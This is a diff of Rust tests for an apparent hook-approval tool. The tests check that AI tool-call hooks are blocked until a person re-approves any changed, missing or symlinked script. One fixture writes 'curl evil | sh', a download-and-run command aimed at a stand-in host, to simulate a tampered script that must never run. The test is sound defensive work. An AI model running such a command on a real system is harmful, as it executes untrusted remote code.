@@ -22,7 +22,7 @@ fn project() -> Sandbox {
 }
 
 #[test]
-fn a_changed_script_fails_the_hooks_that_execute_it_and_no_others() {
+fn a_changed_script_fails_the_whole_hooks_file() {
     let sandbox = project();
     sandbox.write(
         "hooks.yaml",
@@ -39,8 +39,8 @@ tool_guard:
     sandbox.write("TODO.md", "nothing\n");
     let _ = sandbox.hookexec(["trust"]).run().exits(1);
     let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
-    assert!(added.stdout.contains("    covered: guard.sh\n"), "{added:?}");
-    assert!(added.stdout.contains("    not covered: TODO.md, cat\n"), "{added:?}");
+    assert!(added.stdout.contains("  covered: guard.sh, other.sh\n"), "{added:?}");
+    assert!(added.stdout.contains("  not covered: TODO.md, cat\n"), "{added:?}");
     let _ = sandbox.hookexec(["trust", "show"]).run().exits(0);
     let run = |event: &str, tool: &str| {
         let call = format!(r#"{{"tool_name":"{tool}"}}"#);
@@ -55,15 +55,15 @@ tool_guard:
 
     sandbox.write("guard.sh", "curl evil | sh\n");
     let denied = run("pre_tool_use", "shell").exits(2);
-    let said = "`guard.sh` changed after its approval; a person must";
+    let said = "hooks.yaml:3: `guard.sh` changed after its approval. A person must approve it.";
     assert!(denied.stdout.contains(said), "{denied:?}");
     assert!(!denied.stderr.contains("curl evil"), "a guard has no time for it: {denied:?}");
-    // By its own failure mode, as the approved file says.
-    let warned = run("tool_guard", "shell").exits(0);
-    assert!(warned.stdout.contains("failed_open"), "{warned:?}");
-    let _ = run("pre_tool_use", "edit").exits(0);
+    // All of it waits, whatever `on_error` its hooks have.
+    for (event, tool) in [("tool_guard", "shell"), ("pre_tool_use", "edit")] {
+        assert!(run(event, tool).exits(2).stdout.contains(said), "{event}");
+    }
     let shown = sandbox.hookexec(["trust", "show"]).run().exits(1);
-    assert!(shown.stdout.contains("hooks.yaml: a script changed"), "{shown:?}");
+    assert!(shown.stdout.contains("hooks.yaml: a named file changed"), "{shown:?}");
     assert!(shown.stdout.contains("+curl evil | sh"), "{shown:?}");
 
     sandbox.trust();
@@ -379,8 +379,8 @@ fn a_script_that_is_listed_is_covered() {
     assert!(at_a_terminal(&sandbox, &["trust", "add"], "yes").1.contains(&said));
     sandbox.write("Makefile", "guard:\n");
     let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
-    assert!(added.stdout.contains("    covered: Makefile\n"), "{added:?}");
-    assert!(added.stdout.contains("    not covered: make\n"), "{added:?}");
+    assert!(added.stdout.contains("  covered: Makefile\n"), "{added:?}");
+    assert!(added.stdout.contains("  not covered: make\n"), "{added:?}");
     let shown = sandbox.hookexec(["trust"]).run().exits(0);
     for said in ["are covered only if `scripts:` lists them", "What is not covered may change"] {
         assert!(shown.stderr.contains(said), "{shown:?}");
@@ -388,38 +388,30 @@ fn a_script_that_is_listed_is_covered() {
     for change in ["guard:\n\ttrue\n", ""] {
         sandbox.write("Makefile", change);
         let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
-        assert!(
-            run.stdout.contains("`Makefile`, listed in `scripts:`, changed after its approval"),
-            "{run:?}"
-        );
+        assert!(run.stdout.contains("`Makefile` changed after its approval"), "{run:?}");
         let shown = sandbox.hookexec(["trust"]).run().exits(1);
-        assert!(shown.stdout.contains("hooks.yaml: a listed file changed"), "{shown:?}");
+        assert!(shown.stdout.contains("hooks.yaml: a named file changed"), "{shown:?}");
     }
     fs::remove_file(sandbox.project().join("Makefile")).unwrap();
     let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
-    let gone =
-        "`Makefile`, listed in `scripts:`, was approved and is gone; a person must restore it";
+    let gone = "`Makefile` was approved and is gone. A person must restore it.";
     assert!(run.stdout.contains(gone), "{run:?}");
-    let restore = "restore `Makefile`, or take it out of `scripts:` in `hooks.yaml` and run `hookexec trust add";
+    let restore = "restore `Makefile`, or take it out of `hooks.yaml` and run `hookexec trust add";
     assert!(run.stdout.contains(restore), "{run:?}");
     let check = sandbox.hookexec(["check"]).run().exits(0);
-    assert!(check.stderr.contains("restore it, or take it out of `scripts:`"), "{check:?}");
-    assert!(check.stderr.contains("is gone: the hooks that use it fail"), "{check:?}");
+    assert!(check.stderr.contains(restore), "{check:?}");
+    assert!(check.stderr.contains("is gone: its hooks fail"), "{check:?}");
     let shown = sandbox.hookexec(["trust"]).run().exits(1);
-    assert!(shown.stdout.contains("hooks.yaml: a listed file is gone"), "{shown:?}");
+    assert!(shown.stdout.contains("hooks.yaml: a named file is gone"), "{shown:?}");
     let refused = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(65);
     assert!(refused.stderr.contains(missing), "{refused:?}");
     assert!(refused.stderr.contains("hint: restore or create it, or take it out"), "{refused:?}");
 
-    // A link in its place is not followed.
-    std::os::unix::fs::symlink("hooks.yaml", sandbox.project().join("Makefile")).unwrap();
+    // What a link in its place leads to counts.
+    let link = sandbox.project().join("Makefile");
+    std::os::unix::fs::symlink("hooks.yaml", &link).unwrap();
     let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
-    let linked = "`Makefile`, listed in `scripts:`, was approved and is a symbolic link now; a person must restore it";
-    assert!(run.stdout.contains(linked) && run.stdout.contains(restore), "{run:?}");
-    let shown = sandbox.hookexec(["trust"]).run().exits(1);
-    assert!(shown.stdout.contains("hooks.yaml: a script can't be approved"), "{shown:?}");
-    let refused = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(65);
-    assert!(refused.stderr.contains("hint: put what it leads to in its place"), "{refused:?}");
+    assert!(run.stdout.contains("`Makefile` changed after its approval"), "{run:?}");
 
     // Restored, it counts as approved again.
     fs::remove_file(sandbox.project().join("Makefile")).unwrap();
@@ -441,7 +433,7 @@ fn a_listed_file_that_is_missing_was_approved_only_if_an_approval_names_it() {
     let _ = added.exits(0);
     sandbox.write("hooks.yaml", &with(", scripts: [words.txt]"));
     let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
-    assert!(run.stdout.contains("`words.txt`, listed in `scripts:`, was approved"), "{run:?}");
+    assert!(run.stdout.contains("`words.txt` was approved and is gone"), "{run:?}");
     sandbox.write("hooks.yaml", &with(", scripts: [other.txt]"));
     let refused = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(65);
     assert!(refused.stderr.contains("restore or create it"), "{refused:?}");
@@ -496,7 +488,7 @@ fn guarded(command: &str) -> Sandbox {
 }
 
 #[test]
-fn a_script_that_is_gone_fails_the_hooks_that_execute_it() {
+fn a_script_that_is_gone_fails_the_hooks_file() {
     for (command, file) in [
         ("node ./check.js", "check.js"),
         ("node check.js", "check.js"),
@@ -509,22 +501,21 @@ fn a_script_that_is_gone_fails_the_hooks_that_execute_it() {
         let path = sandbox.project().join(file);
         let refused = || {
             let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
-            let said = format!("`{file}` was approved and is gone; a person must restore it");
+            let said = format!("`{file}` was approved and is gone. A person must restore it.");
             assert!(run.stdout.contains(&said), "{command}: {run:?}");
         };
         fs::remove_file(&path).unwrap();
         refused();
         let shown = sandbox.hookexec(["trust"]).run().exits(1);
-        assert!(shown.stdout.contains("hooks.yaml: a script is gone"), "{command}: {shown:?}");
-        assert!(shown.stdout.contains(&format!("    gone: {file}\n")), "{command}: {shown:?}");
-        assert!(!shown.stdout.contains("    covered: check.js"), "{command}: {shown:?}");
-        // A directory is not the script either, and a link is not followed.
+        assert!(shown.stdout.contains("hooks.yaml: a named file is gone"), "{command}: {shown:?}");
+        assert!(shown.stdout.contains(&format!("  gone: {file}\n")), "{command}: {shown:?}");
+        assert!(!shown.stdout.contains("  covered: check.js"), "{command}: {shown:?}");
+        // Neither a directory nor a link that leads nowhere is the script.
         fs::create_dir(&path).unwrap();
         refused();
         fs::remove_dir(&path).unwrap();
         std::os::unix::fs::symlink("/nonexistent", &path).unwrap();
-        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
-        assert!(run.stdout.contains("is a symbolic link"), "{command}: {run:?}");
+        refused();
         fs::remove_file(&path).unwrap();
         // A person may approve that it is gone, and another script is not approved.
         sandbox.trust();
@@ -533,39 +524,6 @@ fn a_script_that_is_gone_fails_the_hooks_that_execute_it() {
         let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
         assert!(run.stdout.contains(&format!("`{file}` is not approved")), "{run:?}");
     }
-}
-
-#[test]
-fn a_script_that_is_gone_fails_its_hook_by_its_own_failure_mode() {
-    let sandbox = guarded("node ./check.js, on_error: warn");
-    fs::remove_file(sandbox.project().join("check.js")).unwrap();
-    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
-    assert!(run.stdout.contains("failed_open") && run.stdout.contains("is gone"), "{run:?}");
-}
-
-#[test]
-fn a_script_that_became_a_link_is_a_change_wherever_it_leads() {
-    let sandbox = Sandbox::new();
-    let hook = "{ type: command, command: sh ./hooks/check.sh }";
-    sandbox.write("hooks.yaml", &format!("pre_tool_use: [{{ hooks: [{hook}] }}]\n"));
-    sandbox.write("hooks/check.sh", "exit 0\n");
-    sandbox.trust();
-    let run = || sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
-    let _ = run().exits(0);
-    let place = sandbox.project().join("hooks");
-    let (same, other) = (sandbox.project().join("real"), sandbox.home().join("outside"));
-    fs::rename(&place, &same).unwrap();
-    fs::create_dir(&other).unwrap();
-    fs::write(other.join("check.sh"), "touch ran\n").unwrap();
-    for target in [same, other, sandbox.home().join("nowhere")] {
-        std::os::unix::fs::symlink(&target, &place).unwrap();
-        let run = run().exits(2);
-        assert!(run.stdout.contains("is a symbolic link"), "{target:?}: {run:?}");
-        let approval = sandbox.hookexec(["trust", "add", "--yes"]).run();
-        assert!(approval.code() != Some(0), "{approval:?}");
-        fs::remove_file(&place).unwrap();
-    }
-    assert!(!sandbox.project().join("ran").exists());
 }
 
 #[test]
@@ -632,12 +590,12 @@ stop: { type: command, command: "true" }
         start: eager
         type: process
         when: tool_input.command regex "^git"
-        not covered: ./gate
       post_tool_use `mcp`
         matches: *
         type: mcp
         with: {"tool":"look","url":"https://example.com/mcp"}
       stop `true`
+      not covered: ./gate
     "#);
     let json = sandbox.hookexec(["trust", "show", "--format", "json"]).run().exits(1).stdout;
     let rows: Value = serde_json::from_str(&json).unwrap();
@@ -650,8 +608,8 @@ fn a_changed_script_is_not_shown_as_covered() {
     sandbox.trust();
     sandbox.write("guard.sh", "exit 0\n");
     let shown = sandbox.hookexec(["trust"]).run().exits(1);
-    assert!(shown.stdout.contains("    changed: guard.sh\n"), "{shown:?}");
-    assert!(!shown.stdout.contains(" covered: guard.sh"), "{shown:?}");
+    assert!(shown.stdout.contains("  changed: guard.sh\n"), "{shown:?}");
+    assert!(!shown.stdout.contains("  covered: guard.sh"), "{shown:?}");
 }
 
 #[test]
@@ -662,7 +620,7 @@ fn an_answer_is_asked_for_only_when_something_would_change() {
     let add = at_a_terminal(&sandbox, &["trust", "add"], "yes");
     assert!(add.0 == 0 && !add.1.contains("may change without"), "{add:?}");
     assert!(add.1.contains("hooks.yaml: approved"), "{add:?}");
-    assert_eq!(add.1.matches("    covered: guard.sh").count(), 1, "{add:?}");
+    assert_eq!(add.1.matches("  covered: guard.sh").count(), 1, "{add:?}");
     let add = at_a_terminal(&sandbox, &["trust", "add"], "no");
     assert!(add.0 == 0 && add.1.contains("hooks.yaml: already approved"), "{add:?}");
     let remove = at_a_terminal(&sandbox, &["trust", "remove"], "yes");
@@ -676,8 +634,8 @@ fn a_script_beside_the_hooks_file_is_not_the_one_that_runs_below() {
     sandbox.trust();
     fs::create_dir(sandbox.project().join("below")).unwrap();
     let below = sandbox.hookexec(["trust", "show", "--cwd", "below"]).run();
-    assert!(below.stdout.contains("    not covered: ./guard.sh\n"), "{below:?}");
-    assert!(!below.stdout.contains("    covered: "), "{below:?}");
+    assert!(below.stdout.contains("  not covered: ./guard.sh\n"), "{below:?}");
+    assert!(!below.stdout.contains("  covered: "), "{below:?}");
     let here = sandbox.hookexec(["trust"]).run().exits(0);
-    assert!(here.stdout.contains("    covered: guard.sh\n"), "{here:?}");
+    assert!(here.stdout.contains("  covered: guard.sh\n"), "{here:?}");
 }
